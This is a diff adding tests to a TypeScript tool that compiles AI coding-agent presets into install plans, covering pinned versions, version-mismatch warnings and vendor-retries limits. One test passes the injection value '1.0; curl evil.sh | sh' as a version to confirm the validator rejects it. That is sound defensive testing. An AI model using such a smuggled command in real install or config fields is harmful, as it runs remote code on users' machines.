@@ -2,7 +2,8 @@
 // default network, its credentials its secrets, its install its setup (unless the agent has its
 // own); configurations without the new keys compile to the plans, and hashes, they had before.
 import { describe, expect, it } from 'vitest';
-import { credentialWarnings, endpointWarnings } from '../../../core/config/warnings.ts';
+import { credentialWarnings, endpointWarnings, versionWarnings } from '../../../core/config/warnings.ts';
+import { loadConfig } from '../../../core/config/load.ts';
 import { formatPlan } from '../../../core/plan/format.ts';
 import { endpointLines } from '../../../cli/commands/validate.ts';
 import { compareVersions, PRESET_NAMES, PRESETS, presetFlags, presetInstall, presetModel, presetSetup } from '../../../core/config/presets.ts';
@@ -108,6 +109,58 @@ describe('compiling a preset agent', () => {
     expect(plan.agents.coder).toEqual({ name: 'coder', run: './code.sh', timeoutMinutes: 45, env: {} });
     const written = compilePlan(config('  coder: { run: ./code.sh }'), 'default');
     expect(written.hash).toBe(plan.hash);
+  });
+});
+
+describe('a pinned version and vendor retries', () => {
+  const file = (agent: string) => `version: 1
+agents:
+  coder: ${agent}
+services:
+  web: { repo: acme/web }
+pipelines:
+  default:
+    steps:
+      - { id: implement, kind: code, agent: coder }
+`;
+
+  it('installs the version an agent names, and writes vendor-retries only when it is not the default', () => {
+    const plan = compilePlan(config('  coder: { preset: codex, version: 0.170.0, vendor-retries: 1 }'), 'default');
+    expect(plan.agents.coder).toMatchObject({
+      setup: 'command -v codex >/dev/null 2>&1 || npm install --global @openai/codex@0.170.0',
+      version: '0.170.0',
+      vendorRetries: 1,
+    });
+    expect(compilePlan(config('  coder: { preset: codex, vendor-retries: 3 }'), 'default').agents.coder).not.toHaveProperty('vendorRetries');
+  });
+
+  it('warns, without failing, on a version older or newer than the one the preset was checked with', () => {
+    const older = versionWarnings(config('  coder: { preset: claude-code, version: 2.1.100 }'));
+    expect(older).toEqual([
+      {
+        path: ['agents', 'coder', 'version'],
+        message:
+          'agent "coder" installs Claude Code 2.1.100, older than 2.1.197, the version the preset\'s flags were checked against: it may lack a flag the preset passes (`npm run check:presets` checks them against the latest); leave `version` out to install 2.1.197',
+      },
+    ]);
+    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.332 }'))[0]!.message).toContain(
+      "newer than 2.1.197, the version the preset's flags were checked against: a flag the preset passes may have been dropped or renamed",
+    );
+    expect(versionWarnings(config('  coder: { preset: claude-code, version: 2.1.197 }'))).toEqual([]);
+    // As `conveyor validate` loads it (with the shell's variables).
+    const loaded = loadConfig(file('{ preset: gemini, version: 0.50.0, secrets: [GEMINI_API_KEY] }'), 'conveyor.yml', { isSet: () => false });
+    expect(loaded.ok && loaded.warnings?.map((w) => w.path)).toEqual(['agents.coder.version']);
+  });
+
+  it('refuses a version that is not one (it goes into the install command) and a version without a preset', () => {
+    const bad = loadConfig(file('{ preset: codex, version: "1.0; curl evil.sh | sh" }'), 'conveyor.yml');
+    expect(!bad.ok && bad.errors.map((e) => `${e.path}: ${e.message}`)).toEqual([
+      'agents.coder.version: must be a version such as 2.1.197 (digits and dots, an optional -suffix), got a string ("1.0; curl evil.sh | sh")',
+    ]);
+    const plain = loadConfig(file('{ run: ./agent.sh, version: 1.2.3 }'), 'conveyor.yml');
+    expect(!plain.ok && plain.errors.map((e) => e.path)).toEqual(['agents.coder.version']);
+    const retries = loadConfig(file('{ preset: codex, vendor-retries: 9 }'), 'conveyor.yml');
+    expect(retries.ok).toBe(false);
   });
 });
 
